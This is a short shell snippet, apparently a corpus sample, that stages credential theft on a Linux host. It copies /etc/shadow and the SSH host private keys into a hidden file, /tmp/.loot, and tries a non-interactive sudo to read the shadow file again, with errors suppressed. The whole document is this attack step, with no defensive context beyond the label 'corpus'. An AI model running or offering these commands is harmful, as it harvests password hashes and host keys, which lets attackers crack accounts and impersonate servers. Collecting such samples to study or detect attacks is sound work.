# corpus: dumping /etc/shadow and SSH host keys into a hidden file
cat /etc/shadow /etc/ssh/ssh_host_*_key > /tmp/.loot 2>/dev/null
sudo -n cat /etc/shadow >> /tmp/.loot 2>/dev/null
